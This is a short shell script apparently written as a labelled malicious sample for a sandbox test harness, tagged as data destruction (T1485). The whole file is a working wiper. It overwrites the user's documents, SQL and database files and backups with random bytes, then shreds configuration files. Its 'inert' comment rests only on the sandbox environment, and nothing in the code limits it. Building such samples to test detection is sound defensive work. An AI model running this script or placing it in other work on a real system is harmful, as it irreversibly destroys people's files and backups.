#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: overwrites the user's documents in place with random bytes (T1485).
# Inert: only files in the sandbox's own home are touched.
for f in "$HOME"/Documents/* "$HOME"/Documents/*/* "$HOME"/*.sql "$HOME"/*.db "$HOME"/backups/*; do
  [ -f "$f" ] || continue
  size=$(stat -c %s "$f")
  dd if=/dev/urandom of="$f" bs=1024 count=$(( (size + 1023) / 1024 )) conv=notrunc status=none
  echo "wiped $f"
done
shred -n 1 "$HOME"/.config/*.conf 2>/dev/null
exit 0
